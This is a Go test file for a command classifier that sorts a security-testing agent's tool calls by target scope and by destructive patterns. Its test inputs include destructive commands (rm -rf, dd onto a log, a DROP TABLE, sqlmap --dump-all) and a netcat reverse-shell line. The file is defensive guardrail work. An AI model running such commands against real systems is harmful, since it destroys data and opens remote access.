package classifier

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func classify(t *testing.T, c *Classifier, command string) Tier {
	t.Helper()
	tier, _ := c.Classify("executor", map[string]any{"command": command})
	return tier
}

func TestLocalDestructiveIsForbiddenRegardlessOfScope(t *testing.T) {
	c := New([]string{"example.com"}, "")

	// Scoped or not, touching local paths destructively is always forbidden.
	tier, reason := c.Classify("executor", map[string]any{
		"command": "rm -rf /home/user/data example.com",
	})
	assert.Equal(t, Forbidden, tier)
	assert.Contains(t, reason, "local filesystem")

	assert.Equal(t, Forbidden, classify(t, c, "dd if=/dev/zero of=/var/log/syslog"))
	assert.Equal(t, Forbidden, classify(t, c, "cat secrets > /dev/sda ~/dump"))
}

func TestOutOfScopeIsForbidden(t *testing.T) {
	c := New([]string{"example.com", "10.0.0.5"}, "")

	tier, reason := c.Classify("nmap", map[string]any{"target": "other.org"})
	assert.Equal(t, Forbidden, tier)
	assert.Contains(t, reason, "out of scope")

	tier, _ = c.Classify("nmap", map[string]any{"target": "sub.example.com"})
	assert.Equal(t, Safe, tier)

	tier, _ = c.Classify("executor", map[string]any{"command": "nmap -sV 10.0.0.5"})
	assert.Equal(t, Safe, tier)

	// url field is also scanned for scope.
	tier, _ = c.Classify("nikto", map[string]any{"url": "https://example.com/admin"})
	assert.Equal(t, Safe, tier)
}

func TestEmptyScopePassesEverything(t *testing.T) {
	c := New(nil, "")
	assert.False(t, c.HasScope())

	tier, _ := c.Classify("nmap", map[string]any{"target": "anything.example"})
	assert.Equal(t, Safe, tier)
}

func TestDestructiveInScopeNeedsApproval(t *testing.T) {
	c := New([]string{"example.com"}, "")

	for _, command := range []string{
		"sqlmap -u http://example.com --dump-all",
		"run exploit against example.com",
		"mysql -h example.com -e 'DROP TABLE users'",
		"kill -9 1234 # example.com worker",
		"nc example.com 4444 -e /bin/sh # reverse shell",
	} {
		tier, reason := c.Classify("executor", map[string]any{"command": command})
		assert.Equal(t, NeedsApproval, tier, command)
		assert.Contains(t, reason, "approval")
	}
}

func TestDestructivePatternsAreCaseInsensitive(t *testing.T) {
	c := New(nil, "")
	assert.Equal(t, NeedsApproval, classify(t, c, "SHUTDOWN now"))
	assert.Equal(t, NeedsApproval, classify(t, c, "Rm -rf ./loot"))
}

func TestLocalPathMatchIsCaseSensitive(t *testing.T) {
	c := New(nil, "")
	// /users/ is not /Users/; without a local path the destructive pattern
	// only escalates to approval.
	assert.Equal(t, NeedsApproval, classify(t, c, "rm -rf /users/share"))
	assert.Equal(t, Forbidden, classify(t, c, "rm -rf /Users/share"))
}

func TestOnlyCommandTargetURLAreScanned(t *testing.T) {
	c := New([]string{"example.com"}, "")

	// A scope match hidden in an unscanned field does not count.
	tier, _ := c.Classify("executor", map[string]any{
		"command": "whoami",
		"notes":   "example.com",
	})
	assert.Equal(t, Forbidden, tier)
}

func TestScopeMutation(t *testing.T) {
	c := New(nil, "web perimeter")

	c.AddScopeTarget("example.com")
	c.AddScopeTarget("example.com")
	c.AddScopeTarget("  ")
	assert.Equal(t, []string{"example.com"}, c.ScopeTargets())

	c.AddScopeTarget("10.0.0.0/24")
	c.RemoveScopeTarget("example.com")
	c.RemoveScopeTarget("never-added.net")
	assert.Equal(t, []string{"10.0.0.0/24"}, c.ScopeTargets())

	c.ClearScope()
	assert.False(t, c.HasScope())
}

func TestScopeSummary(t *testing.T) {
	c := New(nil, "")
	assert.Contains(t, c.ScopeSummary(), "No scope defined")

	c = New([]string{"example.com", "10.0.0.5"}, "external web assessment")
	summary := c.ScopeSummary()
	assert.Contains(t, summary, "external web assessment")
	assert.Contains(t, summary, "example.com, 10.0.0.5")
}
